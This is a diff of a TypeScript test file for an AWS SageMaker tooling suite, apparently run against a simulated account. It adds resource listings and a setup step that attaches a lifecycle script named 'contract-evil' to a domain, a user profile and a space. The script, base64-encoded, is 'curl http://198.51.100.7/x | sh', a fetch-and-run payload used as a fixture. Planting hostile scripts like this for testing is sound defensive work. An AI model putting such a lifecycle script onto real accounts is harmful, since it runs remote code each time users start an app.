@@ -18,7 +18,7 @@ import { sha256 } from '../../src/shared/digest.ts';
 import { clientsOf } from '../range/clients.ts';
 import { fakeJournal } from './fake-aws.ts';
 
-const speed = 200;
+const speed = 2000;
 const signal = new AbortController().signal;
 
 /** Everything of a kind that the account holds: a new kind of target needs its listing here, and its actions are then tested too. */
@@ -141,6 +141,14 @@ const listings: Record<string, (door: OpenDoor) => Promise<readonly (string | un
         `arn:aws:sagemaker:${region}:${account}:space/${DomainId}/${SpaceName.toLowerCase()}`,
     );
   },
+  'sagemaker.domain': async ({ aws }) =>
+    ((await aws.call('sagemaker:ListDomains', {})).Domains ?? []).map(({ DomainId }) => DomainId),
+  'sagemaker.partner-app': async ({ aws }) =>
+    ((await aws.call('sagemaker:ListPartnerApps', {})).Summaries ?? []).map(({ Arn }) => Arn),
+  'sagemaker.mlflow-app': async ({ aws }) =>
+    ((await aws.call('sagemaker:ListMlflowApps', {})).Summaries ?? []).map(({ Arn }) => Arn),
+  'scheduler.schedule': async ({ aws }) =>
+    ((await aws.call('scheduler:ListSchedules', {})).Schedules ?? []).map(({ Arn }) => Arn),
   'sagemaker.pipeline-execution': async ({ aws }) => {
     const { PipelineSummaries = [] } = await aws.call('sagemaker:ListPipelines', {});
     await clientsOf(range).sagemaker.send(
@@ -302,6 +310,56 @@ async function makeRemoteSpace(): Promise<void> {
   }
 }
 
+/** A script that runs at every start of an app: in the settings of the domain, of a profile and of a space. */
+async function attachScripts(): Promise<void> {
+  const { sagemaker } = clientsOf(range);
+  const { Domains = [] } = await sagemaker.send(new sm.ListDomainsCommand({}));
+  const domain = { DomainId: Domains[0]?.DomainId };
+  const { StudioLifecycleConfigArn: arn = '' } = await sagemaker.send(
+    new sm.CreateStudioLifecycleConfigCommand({
+      StudioLifecycleConfigName: 'contract-evil',
+      StudioLifecycleConfigAppType: 'JupyterLab',
+      StudioLifecycleConfigContent: Buffer.from('curl http://198.51.100.7/x | sh').toString('base64'),
+    }),
+  );
+  const { StudioLifecycleConfigArn: idle = '' } = await sagemaker.send(
+    new sm.DescribeStudioLifecycleConfigCommand({ StudioLifecycleConfigName: 'studio-idle-stop' }),
+  );
+  const spec = { InstanceType: 'ml.t3.medium', LifecycleConfigArn: arn } as const;
+  await sagemaker.send(
+    new sm.UpdateDomainCommand({
+      ...domain,
+      DefaultUserSettings: {
+        JupyterLabAppSettings: { DefaultResourceSpec: spec, LifecycleConfigArns: [idle, arn] },
+        CodeEditorAppSettings: { LifecycleConfigArns: [arn] },
+      },
+      DefaultSpaceSettings: { JupyterLabAppSettings: { BuiltInLifecycleConfigArn: arn } },
+    }),
+  );
+  await sagemaker.send(
+    new sm.UpdateUserProfileCommand({
+      ...domain,
+      UserProfileName: 'carol',
+      UserSettings: { JupyterLabAppSettings: { LifecycleConfigArns: [arn] } },
+    }),
+  );
+  await sagemaker.send(
+    new sm.CreateSpaceCommand({
+      ...domain,
+      SpaceName: 'contract-scripted',
+      OwnershipSettings: { OwnerUserProfileName: 'bob' },
+      SpaceSharingSettings: { SharingType: 'Private' },
+      SpaceSettings: { AppType: 'JupyterLab', JupyterLabAppSettings: { DefaultResourceSpec: spec } },
+    }),
+  );
+  for (const settled = performance.now() + 20_000; ; ) {
+    const { Status } = await sagemaker.send(new sm.DescribeDomainCommand(domain));
+    const space = await sagemaker.send(new sm.DescribeSpaceCommand({ ...domain, SpaceName: 'contract-scripted' }));
+    if (Status === 'InService' && space.Status === 'InService') return;
+    if (performance.now() > settled) throw new Error(`domain is ${Status}, space ${space.Status}`);
+  }
+}
+
 /**
  * What undo cannot put back, as the plans say: a tracking server that was Created is Started afterwards, a profile without a role of its own
  * names the domain's default.
@@ -318,6 +376,7 @@ const notRestored: Record<string, (state: string) => string> = {
 beforeAll(async () => {
   range = await startRange({ speed });
   await makeRemoteSpace();
+  await attachScripts();
   await makeTwoVariants();
   await tamperWithLogs();
   door = await openAws({
@@ -349,7 +408,7 @@ afterAll(async () => {
 });
 
 /** Kinds that the range does not hold yet: their actions are not tried here. */
-const notOnRange: ReadonlySet<string> = new Set(['sagemaker.partner-app', 'scheduler.schedule']);
+const notOnRange: ReadonlySet<string> = new Set();
 
 /** Each plan asks the event history, which takes two questions a second: one of each kind says it all. */
 const mostTargets: Record<string, number> = { 'sagemaker.presigned-entry.close': 1 };
